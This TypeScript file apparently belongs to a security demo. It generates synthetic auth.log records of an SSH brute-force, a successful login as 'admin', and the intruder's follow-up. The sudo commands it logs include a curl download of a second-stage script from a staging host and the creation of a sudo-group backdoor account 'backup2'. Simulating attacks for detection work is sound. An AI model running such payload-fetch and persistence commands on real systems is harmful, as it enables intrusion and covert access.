// Attack 1, the story the demo is built around: password guessing against SSH from one address (root,
// admin and a list of invented names, two connections at a time), the guess that works for `admin`, the
// intruder coming back to fetch a payload and create a sudo-capable `backup2`, then using that account.

import { ATTACK_SOURCES } from './addresses'
import { GUESSED_SSH_USERS } from './attackVocabulary'
import type { AuthLogBuilder } from './authLog'
import type { SshSession } from './authSequences'
import { logAcceptedLogin, logFailedLogin, logSessionEnd, logSudo } from './authSequences'
import type { ScenarioWindow } from './clock'
import { scheduledInstant } from './clock'
import type { IocSightings, SshBruteForceTruth } from './groundTruth'
import { loggedSecond, windowOf } from './groundTruth'
import { IOC_DOMAIN, SECOND_STAGE_URL, STAGING_HOST } from './iocList'
import type { SeededRandom } from './random'

const COMPROMISED_USER = 'admin'
const PERSISTENCE_USER = 'backup2'
const PERSISTENCE_GROUP = 'sudo'
const PARALLEL_CONNECTIONS = 2
const MINUTE_MS = 60_000
const HOUR_MS = 60 * MINUTE_MS

interface Guess {
  user: string
  accountExists: boolean
  attempts: number
}

export function simulateSshBruteForce(
  random: SeededRandom,
  window: ScenarioWindow,
  log: AuthLogBuilder,
  sightings: IocSightings
): SshBruteForceTruth {
  const ip = ATTACK_SOURCES.sshBruteForce
  const start = scheduledInstant(window, 0.5, 3, 4) + random.int(0, 59_000)
  const invalidUsers = random.shuffle(GUESSED_SSH_USERS).slice(0, random.int(5, 8))
  const connections = random.shuffle([
    ...splitIntoConnections(random, 'root', true, random.int(26, 34)),
    ...splitIntoConnections(random, COMPROMISED_USER, true, random.int(14, 20)),
    ...invalidUsers.flatMap((user) => splitIntoConnections(random, user, false, random.int(1, 2)))
  ])

  // Each of the tool's parallel connections starts as soon as the previous one on its slot is closed.
  const slotFreeAt = Array.from(
    { length: PARALLEL_CONNECTIONS },
    (_, slot) => start + slot * random.int(200, 900)
  )
  const failedPasswordsByUser: Record<string, number> = {}
  const failureTimes: number[] = []
  for (const guess of connections) {
    const slot = slotFreeAt.indexOf(Math.min(...slotFreeAt))
    const at = slotFreeAt[slot] + random.int(300, 2_500)
    const result = logFailedLogin(log, random, { at, ip, ...guess, ending: 'closed' })
    const failed = result.failedPasswordTimes.length
    failedPasswordsByUser[guess.user] = (failedPasswordsByUser[guess.user] ?? 0) + failed
    failureTimes.push(...result.failedPasswordTimes)
    slotFreeAt[slot] = result.end
  }
  const lastFailure = Math.max(...slotFreeAt)

  // The tool's successful guess: it logs in, sees a shell prompt and disconnects at once.
  const successAt = lastFailure + random.int(1_500, 5_000)
  const probe = logAcceptedLogin(log, random, {
    at: successAt,
    ip,
    user: COMPROMISED_USER,
    tty: 'pts/2',
    method: { kind: 'password', mistypedFirst: 0 }
  })
  logSessionEnd(log, probe, successAt + random.int(800, 2_000))

  const interactiveAt = successAt + random.int(2 * MINUTE_MS, 6 * MINUTE_MS)
  const session = logAcceptedLogin(log, random, {
    at: interactiveAt,
    ip,
    user: COMPROMISED_USER,
    tty: 'pts/2',
    method: { kind: 'password', mistypedFirst: 0 }
  })
  const persistence = establishPersistence(random, log, session, sightings)
  logSessionEnd(log, session, persistence.done + random.int(2 * MINUTE_MS, 5 * MINUTE_MS))

  const loginAt = persistence.done + random.int(6 * HOUR_MS, 10 * HOUR_MS)
  let persistenceLoginAt: number | null = null
  if (loginAt + HOUR_MS < window.end) {
    const backdoor = logAcceptedLogin(log, random, {
      at: loginAt,
      ip,
      user: PERSISTENCE_USER,
      tty: 'pts/2',
      method: { kind: 'password', mistypedFirst: 0 }
    })
    logSessionEnd(log, backdoor, loginAt + random.int(3 * MINUTE_MS, 20 * MINUTE_MS))
    persistenceLoginAt = loggedSecond(loginAt)
  }

  return {
    sourceIp: ip,
    targetUsers: ['root', COMPROMISED_USER],
    invalidUsers: [...invalidUsers].sort(),
    failedPasswordsByUser,
    failedPasswords: Object.values(failedPasswordsByUser).reduce((sum, count) => sum + count, 0),
    connections: connections.length,
    failures: windowOf(failureTimes),
    success: { user: COMPROMISED_USER, at: loggedSecond(successAt) },
    interactiveLoginAt: loggedSecond(interactiveAt),
    sudoCommands: persistence.commands,
    persistence: {
      user: PERSISTENCE_USER,
      uid: persistence.uid,
      createdAt: loggedSecond(persistence.createdAt),
      addedToGroup: PERSISTENCE_GROUP,
      groupAddedAt: loggedSecond(persistence.groupAddedAt),
      loginAt: persistenceLoginAt
    }
  }
}

/** Tools try a few passwords per connection before sshd's limit, so one account's guesses span several. */
function splitIntoConnections(
  random: SeededRandom,
  user: string,
  accountExists: boolean,
  total: number
): Guess[] {
  const guesses: Guess[] = []
  let left = total
  while (left > 0) {
    const attempts = Math.min(left, random.int(1, 3))
    guesses.push({ user, accountExists, attempts })
    left -= attempts
  }
  return guesses
}

interface Persistence {
  commands: string[]
  uid: number
  createdAt: number
  groupAddedAt: number
  /** When the intruder is done and idles before logging out. */
  done: number
}

/** The intruder's commands through sudo, and the lines useradd, passwd and usermod write as they run. */
function establishPersistence(
  random: SeededRandom,
  log: AuthLogBuilder,
  session: SshSession,
  sightings: IocSightings
): Persistence {
  const commands: string[] = []
  const sudo = (at: number, command: string, durationMs: number): number => {
    commands.push(command)
    return logSudo(log, session, at, command, durationMs)
  }
  let at = session.start + random.int(30_000, 90_000)
  sudo(at, '/usr/bin/id', 40)

  at += random.int(20_000, 60_000)
  const fetch = `/usr/bin/curl -fsSL -o /tmp/.cache/k.sh ${SECOND_STAGE_URL}`
  sudo(at, fetch, random.int(800, 2_500))
  sightings.note(IOC_DOMAIN, { file: 'auth.log', field: 'process.command_line', observed: STAGING_HOST })

  at += random.int(40_000, 90_000)
  const createdAt = sudo(at, `/usr/sbin/useradd -m -s /bin/bash ${PERSISTENCE_USER}`, 300) + 60
  const uid = log.accounts.add(PERSISTENCE_USER)
  const useradd = log.spawn('useradd', createdAt - 50)
  log.log(createdAt, useradd, `new group: name=${PERSISTENCE_USER}, GID=${uid}`)
  log.log(
    createdAt + 2,
    useradd,
    `new user: name=${PERSISTENCE_USER}, UID=${uid}, GID=${uid}, home=/home/${PERSISTENCE_USER}, shell=/bin/bash`
  )

  at += random.int(15_000, 40_000)
  // passwd waits for the new password to be typed twice, then logs the change just before exiting.
  const typing = random.int(6_000, 12_000)
  const passwdStarted = sudo(at, `/usr/bin/passwd ${PERSISTENCE_USER}`, typing)
  const passwd = log.spawn('passwd', passwdStarted)
  log.log(
    passwdStarted + typing - 500,
    passwd,
    `pam_unix(passwd:chauthtok): password changed for ${PERSISTENCE_USER}`
  )

  at += random.int(20_000, 45_000)
  const groupAddedAt = sudo(at, `/usr/sbin/usermod -aG ${PERSISTENCE_GROUP} ${PERSISTENCE_USER}`, 200) + 40
  const usermod = log.spawn('usermod', groupAddedAt - 30)
  log.log(groupAddedAt, usermod, `add '${PERSISTENCE_USER}' to group '${PERSISTENCE_GROUP}'`)
  log.log(groupAddedAt + 1, usermod, `add '${PERSISTENCE_USER}' to shadow group '${PERSISTENCE_GROUP}'`)

  return { commands, uid, createdAt, groupAddedAt, done: groupAddedAt + 1_000 }
}
